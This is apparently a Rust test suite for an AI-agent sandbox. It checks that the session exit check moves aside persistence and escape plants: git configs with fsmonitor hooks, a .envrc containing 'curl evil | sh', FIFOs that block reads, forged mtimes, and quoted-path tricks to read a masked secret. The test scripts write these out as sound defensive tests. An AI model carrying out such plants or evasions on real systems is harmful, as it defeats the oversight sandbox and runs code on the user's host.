//! The session check fails closed: what it cannot examine is made examinable or moved
//! aside, it never blocks on a file the agent planted, it still runs when the command is
//! ended by a signal, a killed session is checked by the next start, and two sessions in
//! one project at once both work. Also: the "secret already committed" decision never
//! passes agent-chosen paths through a git subprocess's quoting protocol.

use std::{ffi::OsStr, os::unix::ffi::OsStrExt, path::PathBuf};

use crate::support::{require_bwrap, World};

/// Starts `exec -- sh -c SCRIPT` and returns once the script has touched `marker` in
/// the project (the sandbox is up and the plant is in place).
fn start_until(world: &World, script: &str, marker: &str) -> std::process::Child {
    let mut cmd = world.cmd();
    cmd.args(["exec", "--", "sh", "-c", script]);
    let child = cmd.cmd.stderr(std::process::Stdio::piped()).spawn().expect("exec starts");
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    while !world.path(&format!("home/proj/{marker}")).exists() && std::time::Instant::now() < deadline {
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    child
}

const PLANT: &str = "mkdir -p sub/.git && echo '[core]' > sub/.git/config && touch planted && sleep 60";

fn quarantined(world: &World, dir: &str, name: &str) -> bool {
    fs_err::read_dir(world.path(dir))
        .expect("readable")
        .filter_map(Result::ok)
        .any(|entry| entry.file_name().to_string_lossy().starts_with(&format!("{name}.agent-sandbox-quarantined.")))
}

#[test]
fn a_repository_behind_an_unlistable_directory_is_found_and_moved_aside() {
    require_bwrap!();
    let world = World::new();
    // git only needs search permission to reach `vendor/hidden/dep/.git`.
    let plant = "mkdir -p vendor/hidden/dep && git init -q vendor/hidden/dep \
                 && printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' >> vendor/hidden/dep/.git/config \
                 && chmod 111 vendor/hidden";
    let run = world.sh(&[], plant).run_ok_within_check();
    assert!(world.path("home/proj/vendor/hidden").exists());
    assert!(
        !world.path("home/proj/vendor/hidden/dep/.git").exists(),
        "the planted repository is still in place:\n{}",
        run
    );
    assert!(quarantined(&world, "home/proj/vendor/hidden/dep", ".git"), "{run}");
    // The legitimate use beside it: a directory the agent keeps private (0700) is left
    // as it is, and the next session starts.
    world.sh(&[], "mkdir -p build/private && chmod 700 build/private && echo x > build/private/f").ok();
    assert_eq!(world.read("home/proj/build/private/f"), "x\n");
    world.sh(&[], "true").ok();
}

trait RunExt {
    fn run_ok_within_check(self) -> String;
}

impl RunExt for crate::support::Run {
    /// Asserts success, returns stderr (where the check reports).
    #[track_caller]
    fn run_ok_within_check(self) -> String {
        self.ok();
        self.stderr()
    }
}

#[test]
fn fifos_planted_where_the_checks_read_do_not_block_exit_or_the_next_start() {
    require_bwrap!();
    let world = World::new();
    let plant = "mkdir -p sub/.git bare/objects bare/refs wt && mkfifo sub/.git/config && mkfifo bare/HEAD \
                 && mkfifo sub/.git/HEAD && git worktree add -q ../scratch-wt 2>/dev/null; \
                 mkdir -p .git/worktrees/x && mkfifo .git/worktrees/x/commondir; true";
    let run = world.cmd().args(["exec", "--", "sh", "-c", plant]).run_within(60);
    assert_eq!(run.code(), 0, "{}", run.stderr());
    assert!(!world.path("home/proj/sub/.git").exists(), "{}", run.stderr());
    assert!(!world.path("home/proj/.git/worktrees/x/commondir").exists(), "{}", run.stderr());
    // The next start neither hangs nor trusts anything left.
    let run = world.cmd().args(["exec", "--", "sh", "-c", "echo next"]).run_within(60);
    assert_eq!(run.stdout(), "next\n", "{}", run.stderr());
    // Legitimate: a FIFO the project uses elsewhere is no concern of the check.
    let run = world.cmd().args(["exec", "--", "sh", "-c", "mkfifo build.pipe && echo ok"]).run_within(60);
    assert_eq!(run.stdout(), "ok\n", "{}", run.stderr());
    assert!(world.path("home/proj/build.pipe").exists());
}

#[test]
fn a_fifo_as_the_repository_config_stops_the_start_with_the_fix() {
    require_bwrap!();
    let world = World::new();
    let config = world.path("home/proj/.git/config");
    let saved = fs_err::read(&config).expect("read");
    fs_err::remove_file(&config).expect("rm");
    let c_path = std::ffi::CString::new(config.as_os_str().as_bytes()).expect("no NUL");
    // SAFETY: a valid NUL-terminated path.
    assert_eq!(unsafe { libc::mkfifo(c_path.as_ptr(), 0o600) }, 0);
    let run = world.cmd().args(["exec", "--", "true"]).run_within(60);
    assert_eq!(run.code(), 125);
    assert!(run.stderr().contains(".git/config is not a regular file"), "{}", run.stderr());
    fs_err::remove_file(&config).expect("rm");
    fs_err::write(&config, saved).expect("restore");
    world.sh(&[], "true").ok();
}

#[test]
fn a_renamed_parent_and_a_crafted_index_entry_do_not_unmask_a_secret() {
    require_bwrap!();
    let world = World::new();
    world.write("home/proj/app/.env", "SECRET=real\n");
    // The agent renames the secret's parent to a C-quoted name that git's
    // `--stdin-paths` would read as `x`, and stages that path with the blob of its own `x`.
    let attack = r#"printf decoy > x && mv app '"x"' \
        && git update-index --add --cacheinfo "100644,$(git hash-object -w x),\"x\"/.env""#;
    world.sh(&[], attack).ok();
    assert_eq!(world.read("home/proj/\"x\"/.env"), "SECRET=real\n", "the real secret moved with its parent");
    let run = world.sh(&[], r#"cat '"x"/.env'; echo end"#);
    assert_eq!(run.stdout(), "end\n", "the secret was readable in the next session:\n{}", run.stderr());
}

/// Names with every byte git quotes: `"`, `\`, tab, newline, and non-UTF-8.
fn awkward_names() -> Vec<PathBuf> {
    let raw: [&[u8]; 5] = [b"q\"uote.key", b"back\\slash.key", b"tab\tbed.key", b"new\nline.key", b"caf\xe9.key"];
    raw.iter().map(|name| PathBuf::from(OsStr::from_bytes(name))).collect()
}

#[test]
fn committed_secrets_with_awkward_names_stay_readable_and_changed_ones_are_masked() {
    require_bwrap!();
    let world = World::new();
    for name in awkward_names() {
        fs_err::write(world.project.join(&name), b"committed\n").expect("write");
    }
    world.git(&["add", "-A"]);
    world.git(&["commit", "-qm", "secrets in the repository"]);
    // One more, with the same committed name but changed since: masked.
    let changed = world.project.join(OsStr::from_bytes(b"caf\xe9.key"));
    fs_err::write(&changed, b"changed since\n").expect("write");
    let script = "for f in *.key; do printf '%s|' \"$(cat \"$f\" 2>/dev/null)\"; done";
    let run = world.sh(&[], script);
    let out = run.ok();
    // Sorted by the shell: back\slash, caf\xe9, new\nline, q"uote, tab\tbed.
    assert_eq!(out, "committed||committed|committed|committed|", "{}", run.stderr());
}

#[test]
fn a_terminated_exec_still_runs_the_exit_check() {
    require_bwrap!();
    let world = World::new();
    let mut child = start_until(&world, PLANT, "planted");
    // A SIGINT sent to exec alone (not a terminal's ^C, which the agent gets itself);
    // SIGTERM is in runtime.rs.
    // SAFETY: kill(2) on the child this test started.
    unsafe { libc::kill(child.id() as i32, libc::SIGINT) };
    let status = child.wait().expect("exec exits");
    assert_eq!(status.code(), Some(128 + libc::SIGINT));
    assert!(!world.path("home/proj/sub/.git").exists(), "the exit check did not run after SIGINT");
    // SIGHUP as well (a closed terminal).
    let mut child = start_until(&world, "mkdir -p sub2/.git && touch planted2 && sleep 60", "planted2");
    // SAFETY: as above.
    unsafe { libc::kill(child.id() as i32, libc::SIGHUP) };
    assert_eq!(child.wait().expect("exits").code(), Some(128 + libc::SIGHUP));
    assert!(!world.path("home/proj/sub2/.git").exists(), "the exit check did not run after SIGHUP");
}

#[test]
fn a_killed_session_is_checked_by_the_next_start() {
    require_bwrap!();
    let world = World::new();
    // With a copy of a host-run file in a subdirectory beside the plant (direnv runs
    // `web/.envrc` on `cd web`).
    let mut child =
        start_until(&world, &format!("mkdir -p web && echo 'curl evil | sh' > web/.envrc && {PLANT}"), "planted");
    // SIGKILL: no exit check can run (as after a power cut).
    child.kill().expect("kill");
    child.wait().expect("reaped");
    assert!(world.path("home/proj/sub/.git").exists(), "nothing ran the check yet");
    assert!(world.path("home/proj/web/.envrc").exists(), "nothing ran the check yet");
    let run = world.sh(&[], "ls sub");
    assert!(run.stderr().contains("ended without its exit check"), "{}", run.stderr());
    assert!(!world.path("home/proj/sub/.git").exists(), "{}", run.stderr());
    assert!(!world.path("home/proj/web/.envrc").exists(), "{}", run.stderr());
    assert_eq!(run.ok(), "", "the plant was moved aside before the session started");
    // The user's own work between two sessions that ended normally is never taken for a
    // plant: a nested repository the user makes on the host stays.
    world.git_in(&world.project, &["init", "-q", "tools/own"]);
    world.sh(&[], "true").ok();
    assert!(world.path("home/proj/tools/own/.git").exists());
}

#[test]
fn two_sessions_at_once_share_the_check_and_neither_breaks_the_other() {
    require_bwrap!();
    let world = World::new();
    let mut first = world.cmd();
    first.args([
        "exec",
        "--",
        "sh",
        "-c",
        "touch first-up; while [ ! -e second-done ]; do sleep 0.05; done; echo first",
    ]);
    let first = first.cmd.stdout(std::process::Stdio::piped()).stderr(std::process::Stdio::piped()).spawn();
    let first = first.expect("first starts");
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    while !world.path("home/proj/first-up").exists() && std::time::Instant::now() < deadline {
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    // The second session plants a repository and ends while the first still runs: the
    // plant is moved aside at its exit, and the first's exit check stays correct.
    let run = world.sh(&[], "mkdir -p sub/.git && echo '[core]' > sub/.git/config && git commit -q --allow-empty -m two && touch second-done");
    run.ok();
    assert!(!world.path("home/proj/sub/.git").exists(), "{}", run.stderr());
    let out = first.wait_with_output().expect("first ends");
    assert_eq!(String::from_utf8_lossy(&out.stdout), "first\n", "{}", String::from_utf8_lossy(&out.stderr));
    assert!(out.status.success());
    // Both sessions' legitimate work is there, and a third starts cleanly.
    assert!(world.git(&["log", "--format=%s"]).starts_with("two\n"));
    world.sh(&[], "true").ok();
    assert!(
        !world
            .path("xdg-state/agent-sandbox/sessions")
            .read_dir()
            .expect("dir")
            .any(|entry| { entry.expect("entry").path().join("baseline.json").exists() }),
        "no baseline is left once every session has ended"
    );
}

#[test]
fn a_plant_put_back_while_another_session_ends_is_still_caught() {
    require_bwrap!();
    let world = World::new();
    // Session B plants a repository, and for a while puts it back whenever it is moved.
    let keep_planting = "mkdir -p sub/.git && echo '[core]' > sub/.git/config && touch b-up; \
        end=$(( $(date +%s) + 6 )); while [ $(date +%s) -lt $end ]; do \
          [ -e sub/.git ] || { mkdir -p sub/.git && echo '[core]' > sub/.git/config; }; done";
    let b = start_until(&world, keep_planting, "b-up");
    // Session A ends meanwhile with a finding of its own, so its check moves things.
    let run = world.sh(&[], "mkdir -p .vscode && echo {} > .vscode/tasks.json");
    run.ok();
    let out = b.wait_with_output().expect("b ends");
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(
        !world.path("home/proj/sub/.git").exists(),
        "the plant put back after A's check survived B's:\n{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// `world.cmd()`'s environment and directory for another program (`timeout`, `kill`).
fn like_exec(world: &World, program: &str) -> std::process::Command {
    let mut cmd = std::process::Command::new(program);
    cmd.env_clear().envs(world.cmd().cmd.get_envs().filter_map(|(key, value)| Some((key, value?))));
    cmd.current_dir(&world.project);
    cmd
}

/// coreutils `timeout` sends its SIGTERM to the child and then again to its process
/// group: one request, delivered twice. It used to count as a second signal and skip
/// the exit check in most runs (5 of 6 here); now the check runs every time.
#[test]
fn timeout_ending_exec_never_skips_the_exit_check() {
    require_bwrap!();
    let world = World::new();
    for round in 0..10 {
        let nested = format!("nested{round}");
        let script = format!(
            "git init -q {nested} && printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' >> {nested}/.git/config \
             && touch planted{round}; sleep 100"
        );
        let out = like_exec(&world, "timeout")
            .arg("3")
            .arg(&*crate::support::BIN)
            .args(["exec", "--", "sh", "-c", &script])
            .output()
            .expect("timeout runs");
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(world.path(&format!("home/proj/planted{round}")).exists(), "round {round}: not planted: {stderr}");
        assert_eq!(out.status.code(), Some(124), "round {round}: timeout ended it: {stderr}");
        assert!(!stderr.contains("aborted by a second signal"), "round {round}: {stderr}");
        assert!(!world.path(&format!("home/proj/{nested}/.git")).exists(), "round {round}: plant left: {stderr}");
        assert!(quarantined(&world, &format!("home/proj/{nested}"), ".git"), "round {round}: {stderr}");
    }
}

/// Beside it, a real second request still ends exec at once (the check abandoned, and
/// said so, and the next start does it): another sender right after the first, or
/// another signal from the same one.
#[test]
fn a_second_request_to_stop_still_aborts_at_once() {
    require_bwrap!();
    let world = World::new();
    let second_kinds: [(&str, i32); 2] = [("another sender", libc::SIGTERM), ("another signal", libc::SIGINT)];
    for (round, (case, second)) in second_kinds.into_iter().enumerate() {
        let marker = format!("planted{round}");
        let script =
            format!("mkdir -p sub{round}/.git && echo '[core]' > sub{round}/.git/config && touch {marker} && sleep 60");
        let child = start_until(&world, &script, &marker);
        let pid = child.id() as i32;
        if second == libc::SIGTERM {
            // One from a child of this test, one from the test itself, at once (a `kill`
            // process is slower than the exit check).
            // SAFETY: the child calls only kill(2) and _exit(2), async-signal-safe after fork.
            let helper = unsafe { libc::fork() };
            if helper == 0 {
                // SAFETY: as above.
                unsafe {
                    libc::kill(pid, libc::SIGTERM);
                    libc::_exit(0);
                }
            }
            assert!(helper > 0, "fork");
            // SAFETY: reaping the helper this test forked.
            unsafe { libc::waitpid(helper, std::ptr::null_mut(), 0) };
        } else {
            // SAFETY: kill(2) on the child this test started.
            unsafe { libc::kill(pid, libc::SIGTERM) };
        }
        // SAFETY: as above.
        unsafe { libc::kill(pid, second) };
        let out = child.wait_with_output().expect("exec exits");
        let stderr = String::from_utf8_lossy(&out.stderr);
        // On a loaded machine the exit check can finish before the second signal
        // arrives: then it ran, and nothing is left for the next start. Either way the
        // plant never survives.
        if stderr.contains("aborted by a second signal before the exit check finished") {
            // The main thread may end with the first signal's status at the same moment.
            let code = out.status.code();
            assert!(code == Some(128 + second) || code == Some(128 + libc::SIGTERM), "{case}: {code:?} {stderr}");
            // Unless the check finished just then, the next start runs it.
            let run = world.sh(&[], "true");
            let planted = world.path(&format!("home/proj/sub{round}/.git"));
            assert!(
                run.stderr().contains("ended without its exit check") || !planted.exists(),
                "{case}: {}",
                run.stderr()
            );
        } else {
            let code = out.status.code();
            assert!(code == Some(128 + libc::SIGTERM) || code == Some(128 + second), "{case}: {code:?} {stderr}");
        }
        assert!(!world.path(&format!("home/proj/sub{round}/.git")).exists(), "{case}: {stderr}");
    }
}

/// The exit check lists the project the cached way: a directory whose device, inode and
/// ctime are those of the start's listing is not read again. What the agent can forge
/// does not make a changed one look unchanged: in a tree the start took from the cache,
/// a repository planted deep with every parent's mtime set back (`touch -r`), one in a
/// directory renamed away and back, one in a directory replaced by another of the same
/// name, and a host-run copy (`.envrc`) planted deep are all moved aside; the
/// legitimate edits beside them (a new source file deep in the tree, a file changed in
/// place) are left alone.
#[test]
fn the_exit_checks_cached_listing_misses_no_plant() {
    require_bwrap!();
    let world = World::new();
    for file in ["deep/a/b/c/lib.rs", "renamed/x/y/lib.rs", "replaced/inner/lib.rs", "kept/src/lib.rs", "env/a/b/f"] {
        world.write(&format!("home/proj/{file}"), "old\n");
    }
    // Directories changed in the last two seconds are never cached: let the tree settle,
    // then a first session caches every listing.
    std::thread::sleep(std::time::Duration::from_millis(2200));
    world.sh(&[], "true").ok();
    let plant = |dir: &str| format!("mkdir {dir}/.git && echo '[core]' > {dir}/.git/config");
    let script = [
        // Deep, the mtimes of every directory on the way set back.
        "for d in . deep deep/a deep/a/b deep/a/b/c; do touch -r $d /tmp/mtime.$(echo $d | tr / _); done".to_owned(),
        plant("deep/a/b/c"),
        "for d in . deep deep/a deep/a/b deep/a/b/c; do touch -r /tmp/mtime.$(echo $d | tr / _) $d; done".to_owned(),
        // In a directory renamed away and back.
        format!(
            "touch -r renamed /tmp/mtime.r && mv renamed/x/y renamed/y && {} && mv renamed/y renamed/x/y",
            plant("renamed/y")
        ),
        "touch -r /tmp/mtime.r renamed renamed/x".to_owned(),
        // In a directory replaced by another of the same name.
        format!(
            "mkdir replacement && {} && rm -r replaced/inner && mv replacement replaced/inner",
            plant("replacement")
        ),
        // A host-run copy deep in the tree, its directory's mtime set back.
        "touch -r env/a/b /tmp/mtime.e && echo 'curl evil | sh' > env/a/b/.envrc && touch -r /tmp/mtime.e env/a/b"
            .to_owned(),
        // The legitimate edits.
        "echo new > deep/a/b/c/new.rs && echo changed > kept/src/lib.rs".to_owned(),
    ]
    .join(" && ");
    let run = world.sh(&[], &script);
    run.ok();
    for dir in ["deep/a/b/c", "renamed/x/y", "replaced/inner"] {
        assert!(!world.path(&format!("home/proj/{dir}/.git")).exists(), "{dir}/.git left in place:\n{}", run.stderr());
        assert!(quarantined(&world, &format!("home/proj/{dir}"), ".git"), "{dir}: {}", run.stderr());
    }
    assert!(!world.path("home/proj/env/a/b/.envrc").exists(), "the copy left in place:\n{}", run.stderr());
    assert_eq!(world.read("home/proj/deep/a/b/c/new.rs"), "new\n");
    assert_eq!(world.read("home/proj/kept/src/lib.rs"), "changed\n");
    assert_eq!(world.read("home/proj/renamed/x/y/lib.rs"), "old\n");
    world.sh(&[], "true").ok();
}

/// A project whose `.git` is a file naming a git directory the layout does not take (a
/// separate git directory outside, no worktree record): no rule covers the file, so the
/// agent pointing it at a repository it planted, with a `core.fsmonitor`, is moved aside
/// at exit, and the user's git there runs nothing. Beside it, a session that leaves the
/// file alone keeps it.
#[test]
fn a_dot_git_file_pointed_at_a_planted_repository_is_moved_aside() {
    require_bwrap!();
    let world = World::new();
    let proj = world.path("home/proj");
    std::fs::rename(proj.join(".git"), world.path("home/real.git")).expect("move the repository");
    let pointer = format!("gitdir: {}\n", world.path("home/real.git").display());
    fs_err::write(proj.join(".git"), &pointer).expect("write");
    world.sh(&[], "echo ok > ok").ok();
    assert_eq!(world.read("home/proj/.git"), pointer, "a session that left it alone");
    let ran = world.path("ran");
    let script = format!(
        "git init -q --bare planted 2>/dev/null || mkdir -p planted; \
         printf '[core]\n\tfsmonitor = touch {}\n' >> planted/config; echo 'gitdir: planted' > .git",
        ran.display()
    );
    world.sh(&[], &script).ok();
    assert!(quarantined(&world, "home/proj", ".git"), "the rewritten .git file was left");
    let _ = std::process::Command::new("git").args(["status"]).current_dir(&proj).output();
    assert!(!ran.exists(), "the user's git ran the agent's command");
}
